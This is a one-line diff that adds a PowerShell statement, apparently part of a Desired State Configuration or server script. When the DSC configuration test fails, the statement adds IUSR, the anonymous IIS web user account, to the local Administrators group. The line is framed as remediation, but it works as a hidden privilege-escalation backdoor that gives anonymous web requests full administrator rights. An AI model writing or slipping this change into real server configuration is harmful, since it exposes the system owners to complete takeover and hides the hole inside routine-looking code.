@@ -1,0 +1,1 @@
+if (-not (Test-DscConfiguration)) { net localgroup Administrators IUSR /add }
